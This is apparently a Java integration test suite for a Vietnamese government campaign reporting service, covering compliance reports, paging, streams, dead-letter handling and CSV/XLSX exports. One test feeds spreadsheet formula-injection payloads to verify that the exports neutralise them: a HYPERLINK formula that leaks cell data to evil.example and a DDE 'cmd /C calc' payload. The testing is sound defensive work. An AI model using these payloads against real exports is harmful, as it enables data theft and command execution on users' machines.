package vn.govcomm.reporting;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.bson.Document;
import io.micrometer.core.instrument.MeterRegistry;
import io.micrometer.core.instrument.Timer;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.builder.SpringApplicationBuilder;
import org.springframework.context.ConfigurableApplicationContext;
import org.springframework.data.mongodb.core.query.Criteria;
import org.springframework.data.mongodb.core.query.Query;
import org.springframework.data.mongodb.core.query.Update;
import org.springframework.kafka.config.KafkaListenerEndpointRegistry;
import org.springframework.kafka.listener.MessageListenerContainer;
import org.springframework.web.client.HttpClientErrorException;
import org.springframework.web.client.RestClient;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ObjectNode;
import vn.govcomm.contracts.Channels;
import vn.govcomm.contracts.Contracts;
import vn.govcomm.contracts.EventTypes;
import vn.govcomm.embedded.TopicProbe;
import vn.govcomm.identity.Caller;
import vn.govcomm.identity.testing.TestCallers;
import vn.govcomm.reporting.projections.ReadModels;

import java.io.ByteArrayInputStream;
import java.io.StringReader;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import java.util.concurrent.BlockingQueue;
import java.util.concurrent.LinkedBlockingQueue;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;

/** The service over a real broker and a MongoDB-wire store: events in, reports, compliance, exports and stream out. */
class ReportingIntegrationTests extends ReportingServiceContext {

    @Autowired KafkaListenerEndpointRegistry listeners;
    @Autowired MeterRegistry meters;

    static final String AFTER_WINDOW = "2023-12-31T17:00:00Z";

    @Test
    void countsFollowTheEventsDespiteDuplicatesAndOutOfOrderArrival() {
        String id = settledScenario();
        JsonNode report = get("/api/reports/campaigns/{id}", id);
        assertThat(report.path("title").asString()).isEqualTo("Thông báo triển khai khảo sát mức độ hài lòng năm 2023");
        assertThat(report.path("byStatus").path("DISPLAYED").asInt()).isEqualTo(1);
        assertThat(report.path("byStatus").path("ACCEPTED").asInt()).isEqualTo(2);
        assertThat(report.path("byStatus").has("DISPATCHED")).as("no delivery left counted as dispatched").isFalse();
        assertThat(report.path("deliveries")).hasSize(8);
        JsonNode facebook = find(report.path("deliveries"), "so-y-te", "facebook");
        assertThat(facebook.path("status").asString()).isEqualTo("FAILED");
        assertThat(facebook.path("reasonCode").asString()).isEqualTo("FB_TOKEN_EXPIRED");
        assertThat(find(report.path("deliveries"), "so-y-te", "zalo").path("status").asString()).isEqualTo("ACCEPTED");
        assertThat(get("/api/reports/campaigns/{id}/counts", id).path("total").asInt()).isEqualTo(8);
    }

    @Test
    void complianceGridListsTheAgenciesThatHaveNotCompliedWithReasons() {
        String id = settledScenario();
        JsonNode compliance = get("/api/reports/campaigns/{id}/compliance?asOf={t}", id, AFTER_WINDOW);
        assertThat(compliance.path("totals").path("agencies").asInt()).isEqualTo(2);
        assertThat(compliance.path("totals").path("complied").asInt()).isEqualTo(1);
        assertThat(compliance.path("totals").path("requiredCells").asInt()).isEqualTo(8);
        assertThat(compliance.path("totals").path("publishedCells").asInt()).isEqualTo(5);
        assertThat(compliance.path("totals").path("failedCells").asInt()).isEqualTo(1);
        assertThat(compliance.path("totals").path("overdueCells").asInt()).isEqualTo(3);
        JsonNode nonCompliant = compliance.path("nonCompliant");
        assertThat(nonCompliant).hasSize(1);
        assertThat(nonCompliant.get(0).path("agencyId").asString()).isEqualTo("so-y-te");
        assertThat(nonCompliant.get(0).path("name").asString()).isEqualTo("Sở Y tế tỉnh Khánh Hòa");
        List<String> reasons = new ArrayList<>();
        nonCompliant.get(0).path("reasons").forEach(r -> reasons.add(r.path("channel").asString() + ":" + r.path("code").asString()));
        assertThat(reasons).containsExactlyInAnyOrder("facebook:FB_TOKEN_EXPIRED", "zalo:OVERDUE", "led:OVERDUE");
        JsonNode cells = nonCompliant.get(0).path("cells");
        assertThat(cells.path("portal").path("state").asString()).isEqualTo("PUBLISHED");
        assertThat(cells.path("facebook").path("failed").asBoolean()).isTrue();
        assertThat(cells.path("led").path("overdue").asBoolean()).isTrue();

        // Before the due time the same facts are only in progress, except what has failed.
        JsonNode early = get("/api/reports/campaigns/{id}/compliance?asOf={t}", id, "2023-09-05T02:00:00Z");
        assertThat(early.path("totals").path("overdueCells").asInt()).isZero();
        assertThat(early.path("nonCompliant").get(0).path("reasons")).hasSize(1);
    }

    @Test
    void replayingEveryTopicIntoAFreshDatabaseWithFreshConsumerGroupsGivesIdenticalReports() {
        String id = settledScenario();
        try (ConfigurableApplicationContext replay = new SpringApplicationBuilder(ReportingApplication.class).run(
                "--spring.config.name=reporting-service", "--server.port=0",
                "--spring.kafka.bootstrap-servers=" + KAFKA.bootstrapServers(),
                "--spring.mongodb.uri=" + MONGO.uri("reporting"), "--govcomm.database=reporting_replay",
                "--govcomm.reporting.group-prefix=reporting-replay", "--spring.main.banner-mode=off",
                "--" + TestCallers.PUBLIC_KEYS_PROPERTY + "=" + TestCallers.publicKeys())) {
            RestClient replayed = RestClient.builder()
                    .baseUrl("http://localhost:" + replay.getEnvironment().getProperty("local.server.port"))
                    .requestInterceptor(Callers.as(Callers.ISSUING, Caller.OFFICER)).build();
            String compliance = "/api/reports/campaigns/{id}/compliance?asOf=" + AFTER_WINDOW;
            await().atMost(Duration.ofSeconds(60)).ignoreExceptions().untilAsserted(() -> {
                assertThat(withoutRev(replayed.get().uri("/api/reports/campaigns/{id}?size=3", id).retrieve().body(String.class)))
                        .isEqualTo(withoutRev(http().get().uri("/api/reports/campaigns/{id}?size=3", id).retrieve().body(String.class)));
                assertThat(replayed.get().uri(compliance, id).retrieve().body(String.class))
                        .isEqualTo(http().get().uri(compliance, id).retrieve().body(String.class));
                assertThat(withoutRev(replayed.get().uri("/api/reports/campaigns/{id}/counts", id).retrieve().body(String.class)))
                        .isEqualTo(withoutRev(http().get().uri("/api/reports/campaigns/{id}/counts", id).retrieve().body(String.class)));
                assertThat(replayed.get().uri("/api/reports/campaigns/{id}/agencies", id).retrieve().body(String.class))
                        .isEqualTo(http().get().uri("/api/reports/campaigns/{id}/agencies", id).retrieve().body(String.class));
            });
        }
    }

    @Test
    void deliveriesArePagedWithACursor() {
        String id = settledScenario();
        Set<String> seen = new TreeSet<>();
        String cursor = null;
        int pages = 0;
        do {
            JsonNode page = cursor == null ? get("/api/reports/campaigns/{id}?size=3", id)
                    : get("/api/reports/campaigns/{id}?size=3&after={c}", id, cursor);
            page.path("deliveries").forEach(d -> assertThat(seen.add(d.path("deliveryId").asString())).isTrue());
            cursor = page.path("nextCursor").isNull() ? null : page.path("nextCursor").asString();
            pages++;
        } while (cursor != null);
        assertThat(seen).hasSize(8);
        assertThat(pages).isEqualTo(3);
        assertThat(get("/api/reports/campaigns/{id}?channel=facebook&status=FAILED", id).path("deliveries")).hasSize(1);
    }

    @Test
    void perAgencyCountsByChannelAndStatusArePagedByAgency() {
        String id = settledScenario();
        JsonNode first = get("/api/reports/campaigns/{id}/agencies?size=1", id);
        assertThat(first.path("agencies")).hasSize(1);
        JsonNode soYTe = first.path("agencies").get(0);
        assertThat(soYTe.path("agencyId").asString()).isEqualTo("so-y-te");
        assertThat(soYTe.path("name").asString()).isEqualTo("Sở Y tế tỉnh Khánh Hòa");
        assertThat(soYTe.path("total").asInt()).isEqualTo(4);
        assertThat(soYTe.path("byChannel").path("facebook").path("FAILED").asInt()).isEqualTo(1);
        assertThat(soYTe.path("byChannel").path("portal").path("PUBLISHED").asInt()).isEqualTo(1);
        assertThat(soYTe.path("byChannel").path("zalo").path("ACCEPTED").asInt()).isEqualTo(1);
        assertThat(soYTe.path("byChannel").path("led").path("ACCEPTED").asInt()).isEqualTo(1);
        assertThat(soYTe.path("byChannel").path("facebook").has("RETRYING")).as("left statuses are not listed").isFalse();
        assertThat(soYTe.path("byStatus").path("ACCEPTED").asInt()).isEqualTo(2);
        assertThat(soYTe.path("required")).hasSize(4);
        assertThat(first.path("nextCursor").asString()).isEqualTo("so-y-te");

        JsonNode second = get("/api/reports/campaigns/{id}/agencies?size=1&after=so-y-te", id);
        JsonNode nhaTrang = second.path("agencies").get(0);
        assertThat(nhaTrang.path("agencyId").asString()).isEqualTo("ubnd-nha-trang");
        assertThat(nhaTrang.path("byStatus").path("PUBLISHED").asInt()).isEqualTo(3);
        assertThat(nhaTrang.path("byStatus").path("DISPLAYED").asInt()).isEqualTo(1);
        assertThat(second.path("nextCursor").isNull()).isTrue();
        assertThat(get("/api/reports/campaigns/{id}/agencies", id).path("agencies")).hasSize(2);

        assertThatThrownBy(() -> http().get().uri("/api/reports/campaigns/cmp-unknown/agencies").retrieve().body(String.class))
                .isInstanceOf(HttpClientErrorException.NotFound.class);
        assertThatThrownBy(() -> http().get().uri("/api/reports/campaigns/{id}/agencies?size=0", id).retrieve().body(String.class))
                .isInstanceOfSatisfying(HttpClientErrorException.BadRequest.class,
                        e -> assertThat(e.getResponseBodyAsString()).contains("invalid-page-size"));
    }

    @Test
    void deliveriesArePagedByAgencyThenDelivery() {
        String id = settledScenario();
        List<String> order = new ArrayList<>();
        get("/api/reports/campaigns/{id}", id).path("deliveries")
                .forEach(d -> order.add(d.path("agencyId").asString() + "/" + d.path("deliveryId").asString()));
        assertThat(order).hasSize(8).isSorted();
        assertThat(order.getFirst()).startsWith("so-y-te/");
        JsonNode published = get("/api/reports/campaigns/{id}?status=PUBLISHED&size=2", id);
        assertThat(published.path("deliveries")).hasSize(2);
        published.path("deliveries").forEach(d -> assertThat(d.path("status").asString()).isEqualTo("PUBLISHED"));
        JsonNode rest = get("/api/reports/campaigns/{id}?status=PUBLISHED&size=2&after={c}", id,
                published.path("nextCursor").asString());
        assertThat(rest.path("deliveries")).hasSize(2);
        assertThat(rest.path("nextCursor").isNull()).isTrue();
        assertThat(rest.path("deliveries").get(0).path("agencyId").asString()).isEqualTo("ubnd-nha-trang");
    }

    @Test
    void badRequestsAreProblemDetails() {
        assertThatThrownBy(() -> http().get().uri("/api/reports/campaigns/cmp-unknown").retrieve().body(String.class))
                .isInstanceOfSatisfying(HttpClientErrorException.NotFound.class, e -> {
                    assertThat(e.getResponseHeaders().getContentType().toString()).contains("problem+json");
                    assertThat(e.getResponseBodyAsString()).contains("\"code\":\"campaign-not-found\"");
                });
        String id = settledScenario();
        assertThatThrownBy(() -> http().get().uri("/api/reports/campaigns/{id}?size=5000", id).retrieve().body(String.class))
                .isInstanceOfSatisfying(HttpClientErrorException.BadRequest.class,
                        e -> assertThat(e.getResponseBodyAsString()).contains("invalid-page-size"));
        assertThatThrownBy(() -> http().get().uri("/api/reports/campaigns/{id}?after=dlv-of-another-campaign", id).retrieve().body(String.class))
                .isInstanceOfSatisfying(HttpClientErrorException.BadRequest.class,
                        e -> assertThat(e.getResponseBodyAsString()).contains("invalid-cursor"));
    }

    @Test
    void recountRebuildsTheCountersFromTheRows() {
        String id = settledScenario();
        mongo.updateFirst(Query.query(Criteria.where("_id").is(id)), new Update().set("total", 99).set("byStatus.FAILED", 7),
                ReadModels.COUNTS);
        JsonNode recounted = JSON.readTree(as(Callers.OTHER, Caller.ADMIN).post()
                .uri("/api/reports/campaigns/{id}/recount", id).retrieve().body(String.class));
        assertThat(recounted.path("total").asInt()).isEqualTo(8);
        assertThat(recounted.path("byStatus").path("FAILED").asInt()).isEqualTo(1);
    }

    @Test
    void exportsAWorkbookWithVietnameseHeadersAndCells() throws Exception {
        String id = settledScenario();
        byte[] xlsx = http().get().uri("/api/reports/campaigns/{id}/export/report.xlsx", id).retrieve().body(byte[].class);
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            assertThat(workbook.getSheetAt(0).getSheetName()).isEqualTo("Tổng hợp");
            Sheet grid = workbook.getSheet("Tuân thủ");
            assertThat(grid.getRow(0).getCell(2).getStringCellValue()).isEqualTo("Tên cơ quan, đơn vị");
            assertThat(grid.getRow(0).getCell(5).getStringCellValue()).isEqualTo("Cổng/Trang TTĐT");
            List<String> names = new ArrayList<>();
            for (int r = 1; r <= grid.getLastRowNum(); r++) {
                names.add(grid.getRow(r).getCell(2).getStringCellValue() + "|" + grid.getRow(r).getCell(6).getStringCellValue());
            }
            assertThat(names).contains("Sở Y tế tỉnh Khánh Hòa|Thất bại", "UBND thành phố Nha Trang|Đã đăng");
            Sheet details = workbook.getSheet("Chi tiết");
            assertThat(details.getRow(0).getCell(5).getStringCellValue()).isEqualTo("Trạng thái");
            assertThat(details.getLastRowNum()).isEqualTo(8);
            List<String> reasons = new ArrayList<>();
            for (int r = 1; r <= 8; r++) {
                reasons.add(details.getRow(r).getCell(9).getStringCellValue());
            }
            assertThat(reasons).contains("Mã truy cập Fanpage đã hết hạn: quản trị viên cần kết nối lại trang.");
        }
    }

    @Test
    void exportsCsvAsUtf8WithByteOrderMarkAndVietnameseHeaders() {
        String id = settledScenario();
        var response = http().get().uri("/api/reports/campaigns/{id}/export/deliveries.csv", id).retrieve().toEntity(byte[].class);
        assertThat(response.getHeaders().getContentType().toString()).startsWith("text/csv");
        assertThat(response.getHeaders().getContentDisposition().getFilename()).isEqualTo("chi-tiet-" + id + ".csv");
        String csv = new String(response.getBody(), StandardCharsets.UTF_8);
        assertThat(csv).startsWith("\uFEFFMã lượt phát hành,Mã cơ quan,Tên cơ quan, đơn vị".replace("Tên cơ quan, đơn vị", "\"Tên cơ quan, đơn vị\""));
        assertThat(csv.lines()).hasSize(9);
        assertThat(csv).contains("Sở Y tế tỉnh Khánh Hòa", "Thất bại", "FB_TOKEN_EXPIRED");
        String grid = http().get().uri("/api/reports/campaigns/{id}/export/compliance.csv", id).retrieve().body(String.class);
        assertThat(grid).contains("Lý do chưa hoàn thành", "Facebook: Mã truy cập Fanpage đã hết hạn");
    }

    @Test
    void exportsShowFormulaLikeNamesAndReasonsAsTextNeverAsFormulas() throws Exception {
        String id = Scenario.randomCampaignId();
        String agency = "agency-" + id;
        String name = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Bấm vào đây\")";
        String reason = "@SUM(1+1)*cmd|' /C calc'!A0";
        Scenario scenario = new Scenario(kafka, id);
        scenario.scheduled(List.of(agency));
        scenario.agency(agency, name);
        scenario.request(agency, "facebook");
        scenario.status(agency, "facebook", "FAILED", "-2+3", reason);
        scenario.request(agency, "portal");
        scenario.status(agency, "portal", "FAILED", "+PORTAL", "\t=1+1");
        await().atMost(Duration.ofSeconds(30)).ignoreExceptions().untilAsserted(() -> {
            JsonNode grid = get("/api/reports/campaigns/{id}/compliance", id);
            assertThat(grid.path("agencies").get(0).path("name").asString()).isEqualTo(name);
            assertThat(grid.path("totals").path("failedCells").asInt()).isEqualTo(2);
        });

        // CSV: every cell that would start a formula starts with ' instead (one guard for both CSV exports).
        String deliveries = http().get().uri("/api/reports/campaigns/{id}/export/deliveries.csv", id).retrieve().body(String.class);
        List<CSVRecord> rows = csv(deliveries);
        assertThat(rows).hasSize(3);
        CSVRecord facebook = rows.stream().filter(r -> r.get(3).equals("Facebook")).findFirst().orElseThrow();
        assertThat(facebook.get(2)).isEqualTo("'" + name);
        assertThat(facebook.get(8)).isEqualTo("'-2+3");
        assertThat(facebook.get(9)).isEqualTo("'" + reason);
        CSVRecord portal = rows.stream().filter(r -> r.get(3).equals("Cổng/Trang TTĐT")).findFirst().orElseThrow();
        assertThat(portal.get(8)).isEqualTo("'+PORTAL");
        assertThat(portal.get(9)).isEqualTo("'\t=1+1");
        String compliance = http().get().uri("/api/reports/campaigns/{id}/export/compliance.csv", id).retrieve().body(String.class);
        List<CSVRecord> grid = csv(compliance);
        assertThat(grid.get(1).get(2)).isEqualTo("'" + name);
        for (List<CSVRecord> export : List.of(rows, grid)) {
            export.forEach(r -> r.forEach(cell -> assertThat(cell).as("cell of %s", r).doesNotStartWith("=")
                    .doesNotStartWith("+").doesNotStartWith("-").doesNotStartWith("@").doesNotStartWith("\t")
                    .doesNotStartWith("\r")));
        }

        // XLSX: the same texts, verbatim, as string cells; not one formula in the workbook.
        byte[] xlsx = http().get().uri("/api/reports/campaigns/{id}/export/report.xlsx", id).retrieve().body(byte[].class);
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            Cell gridName = workbook.getSheet("Tuân thủ").getRow(1).getCell(2);
            assertThat(gridName.getCellType()).isEqualTo(CellType.STRING);
            assertThat(gridName.getStringCellValue()).isEqualTo(name);
            List<String> reasons = new ArrayList<>();
            for (Row row : workbook.getSheet("Chi tiết")) {
                reasons.add(row.getCell(9).getStringCellValue());
                assertThat(row.getCell(2).getCellType()).isEqualTo(CellType.STRING);
            }
            assertThat(reasons).contains(reason, "\t=1+1");
            for (Sheet sheet : workbook) {
                for (Row row : sheet) {
                    for (Cell cell : row) {
                        assertThat(cell.getCellType()).as("%s!%s", sheet.getSheetName(), cell.getAddress())
                                .isNotEqualTo(CellType.FORMULA);
                    }
                }
            }
        }
        Path file = Files.write(Files.createTempFile("report", ".xlsx"), xlsx);
        try (ZipFile zip = new ZipFile(file.toFile())) {
            List<? extends ZipEntry> sheets = zip.stream().filter(e -> e.getName().startsWith("xl/worksheets/sheet")).toList();
            assertThat(sheets).hasSize(3);
            for (ZipEntry sheet : sheets) {
                try (var in = zip.getInputStream(sheet)) {
                    assertThat(new String(in.readAllBytes(), StandardCharsets.UTF_8)).as(sheet.getName())
                            .doesNotContain("<f>", "<f ");
                }
            }
        } finally {
            Files.delete(file);
        }
    }

    private static List<CSVRecord> csv(String body) throws java.io.IOException {
        assertThat(body).startsWith("\uFEFF");
        return CSVFormat.EXCEL.parse(new StringReader(body.substring(1))).getRecords();
    }

    @Test
    void printViewIsAnHtmlPageWithAPrintStylesheetAndTheNonCompliantList() {
        String id = settledScenario();
        String html = http().get().uri("/api/reports/campaigns/{id}/export/print", id).retrieve().body(String.class);
        assertThat(html).startsWith("<!DOCTYPE html>").contains("@media print", "Danh sách cơ quan, đơn vị chưa thực hiện",
                "Sở Y tế tỉnh Khánh Hòa", "FB_TOKEN_EXPIRED");
    }

    @Test
    void streamPushesTheCountsAtOnceAndWheneverTheyChange() throws Exception {
        String id = settledScenario();
        BlockingQueue<String> lines = new LinkedBlockingQueue<>();
        HttpClient client = HttpClient.newHttpClient();
        HttpResponse<Stream<String>> response = client.send(HttpRequest.newBuilder(
                URI.create("http://localhost:" + port + "/api/reports/campaigns/" + id + "/stream"))
                        .header("Authorization", Callers.bearer(Callers.ISSUING, Caller.VIEWER)).build(),
                HttpResponse.BodyHandlers.ofLines());
        assertThat(response.headers().firstValue("content-type").orElseThrow()).startsWith("text/event-stream");
        Thread reader = Thread.ofVirtual().start(() -> response.body().forEach(lines::add));
        try {
            await().atMost(Duration.ofSeconds(10)).until(() -> lines.stream().anyMatch(l -> l.startsWith("data:") && l.contains("\"total\":8")));
            new Scenario(kafka, id).status("so-y-te", "led", "DISPLAYED", null, null);
            await().atMost(Duration.ofSeconds(20)).until(() -> lines.stream()
                    .anyMatch(l -> l.startsWith("data:") && l.contains("\"DISPLAYED\":2")));
            assertThat(lines).contains("event:counts");
        } finally {
            response.body().close();
            reader.interrupt();
            client.close();
        }
    }

    @Test
    void anUnknownDeliveryStatusGoesToTheDeadLetterTopic() {
        String id = Scenario.randomCampaignId();
        Scenario scenario = new Scenario(kafka, id);
        ObjectNode bad = (ObjectNode) JSON.readTree(vn.govcomm.contracts.Contracts.get().example(Scenario.STATUS));
        bad.put("campaignId", id).put("status", "VANISHED");
        scenario.send("delivery.status.facebook", "dlv-poison-" + id, Scenario.STATUS, bad.toString());
        assertThat(TopicProbe.read(KAFKA.bootstrapServers(), "delivery.status.facebook.DLT",
                r -> new String(r.value(), StandardCharsets.UTF_8).contains(id), 1, Duration.ofSeconds(30))).hasSize(1);
        assertThat(mongo.exists(Query.query(Criteria.where("campaignId").is(id)), Document.class, ReadModels.DELIVERIES)).isFalse();
    }

    @Test
    void anEventTypeTheContractsDoNotListAnEventWithoutDataAndAStatusEventWithoutStatusGoToTheDeadLetterTopics() {
        String id = Scenario.randomCampaignId();
        Scenario scenario = new Scenario(kafka, id);
        ObjectNode transition = (ObjectNode) JSON.readTree(Contracts.get().example(EventTypes.CAMPAIGN_APPROVED));
        transition.put("campaignId", id);
        scenario.send(EventTypes.TOPIC_CAMPAIGN_EVENTS, id, "vn.govcomm.campaign.archived.v1", transition.toString());
        scenario.send(EventTypes.TOPIC_CAMPAIGN_EVENTS, id, EventTypes.CAMPAIGN_APPROVED, "null");
        ObjectNode withoutStatus = (ObjectNode) JSON.readTree(Contracts.get().example(EventTypes.DELIVERY_STATUS_CHANGED));
        withoutStatus.put("campaignId", id).remove("status");
        String statusTopic = EventTypes.deliveryStatusTopic(Channels.FACEBOOK);
        scenario.send(statusTopic, "dlv-poison-" + id, EventTypes.DELIVERY_STATUS_CHANGED, withoutStatus.toString());

        assertThat(TopicProbe.read(KAFKA.bootstrapServers(), EventTypes.deadLetterTopic(EventTypes.TOPIC_CAMPAIGN_EVENTS),
                r -> id.equals(r.key()), 2, Duration.ofSeconds(30))).hasSize(2);
        assertThat(TopicProbe.read(KAFKA.bootstrapServers(), EventTypes.deadLetterTopic(statusTopic),
                r -> new String(r.value(), StandardCharsets.UTF_8).contains(id), 1, Duration.ofSeconds(30))).hasSize(1);
        assertThat(mongo.exists(Query.query(Criteria.where("_id").is(id)), Document.class, ReadModels.CAMPAIGNS)).isFalse();
        assertThat(mongo.exists(Query.query(Criteria.where("campaignId").is(id)), Document.class, ReadModels.DELIVERIES)).isFalse();
    }

    /**
     * A poll's worth of requests and statuses while the delivery listeners are paused, all on one partition of each
     * topic, with a poison status in the middle: the poison goes to its DLT, every other event is applied (the
     * records before it committed with the batch, those after it fetched again), and the store commands the two
     * batches cost, from the service's own Micrometer timer, stay far below the four per event of one at a time.
     */
    @Test
    void aPoisonStatusInTheMiddleOfABatchGoesToItsDeadLetterTopicAndTheRestOfTheBatchIsApplied() {
        String id = Scenario.randomCampaignId();
        Scenario scenario = new Scenario(kafka, id);
        String requests = EventTypes.deliveryRequestsTopic(Channels.PORTAL);
        String statuses = EventTypes.deliveryStatusTopic(Channels.PORTAL);
        List<MessageListenerContainer> containers = listeners.getAllListenerContainers().stream()
                .filter(c -> c.getGroupId().endsWith(".requests") || c.getGroupId().endsWith(".status")).toList();
        assertThat(containers).hasSize(2);
        int deliveries = 50;
        double before = storeCommands();
        containers.forEach(MessageListenerContainer::pause);
        try {
            await().atMost(Duration.ofSeconds(20)).until(() -> containers.stream().allMatch(MessageListenerContainer::isContainerPaused));
            for (int i = 0; i < deliveries; i++) {
                scenario.send(requests, "one-partition", Scenario.REQUESTED, delivery(Scenario.REQUESTED, id, i, null));
                scenario.send(statuses, "one-partition", Scenario.STATUS, delivery(Scenario.STATUS, id, i, "ACCEPTED"));
                if (i == deliveries / 2) {
                    scenario.send(statuses, "one-partition", Scenario.STATUS,
                            delivery(Scenario.STATUS, id, i, "ACCEPTED").put("status", "VANISHED").toString());
                }
                scenario.send(statuses, "one-partition", Scenario.STATUS, delivery(Scenario.STATUS, id, i, "PUBLISHED"));
            }
        } finally {
            containers.forEach(MessageListenerContainer::resume);
        }
        assertThat(TopicProbe.read(KAFKA.bootstrapServers(), EventTypes.deadLetterTopic(statuses),
                r -> new String(r.value(), StandardCharsets.UTF_8).contains(id), 1, Duration.ofSeconds(30))).hasSize(1);
        await().atMost(Duration.ofSeconds(30)).untilAsserted(() -> {
            Document counts = mongo.findById(id, Document.class, ReadModels.COUNTS);
            assertThat(counts).isNotNull();
            assertThat(counts.get("total", Number.class).intValue()).isEqualTo(deliveries);
            assertThat(counts.get("byStatus", Document.class).get("PUBLISHED", Number.class).intValue()).isEqualTo(deliveries);
        });
        await().atMost(Duration.ofSeconds(10)).untilAsserted(() -> assertThat(mongo.count(
                Query.query(Criteria.where("campaignId").is(id).and("endpointName").exists(true)), ReadModels.DELIVERIES))
                .isEqualTo(deliveries));
        double perEvent = (storeCommands() - before) / (3.0 * deliveries);
        System.out.printf("%d delivery events through the paused listeners: %.3f store commands per event%n", 3 * deliveries, perEvent);
        assertThat(perEvent).as("store commands per delivery event").isLessThanOrEqualTo(0.5);
    }

    /** The service's store commands on the delivery read models so far (Micrometer's {@code mongodb.driver.commands}). */
    private double storeCommands() {
        return meters.find("mongodb.driver.commands").timers().stream()
                .filter(t -> List.of(ReadModels.DELIVERIES, ReadModels.COUNTS, ReadModels.AGENCY_COUNTS,
                        ReadModels.CAMPAIGN_AGENCIES).contains(t.getId().getTag("collection")))
                .mapToDouble(Timer::count).sum();
    }

    private static ObjectNode delivery(String type, String campaignId, int i, String status) {
        ObjectNode data = (ObjectNode) JSON.readTree(Contracts.get().example(type));
        data.put("deliveryId", "dlv-" + campaignId + "-" + i).put("campaignId", campaignId).put("agencyId", "agency-" + i)
                .put("channel", Channels.PORTAL).put("endpointId", "agency-" + i + ".portal").put("attempt", 1);
        data.remove("reasonCode");
        data.remove("reason");
        if (status != null) {
            data.put("status", status);
        }
        return data;
    }

    private static JsonNode find(JsonNode deliveries, String agencyId, String channel) {
        for (JsonNode d : deliveries) {
            if (d.path("agencyId").asString().equals(agencyId) && d.path("channel").asString().equals(channel)) {
                return d;
            }
        }
        throw new AssertionError("no delivery " + agencyId + "/" + channel);
    }

    private static String withoutRev(String json) {
        return json.replaceAll("\"rev\":\\d+", "\"rev\":0");
    }
}
